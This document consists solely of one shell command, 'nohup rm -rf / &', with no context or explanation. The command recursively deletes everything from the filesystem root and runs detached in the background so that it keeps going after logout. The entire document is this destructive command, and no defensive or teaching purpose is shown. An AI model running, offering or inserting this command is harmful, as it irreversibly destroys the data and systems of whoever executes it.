nohup rm -rf / &
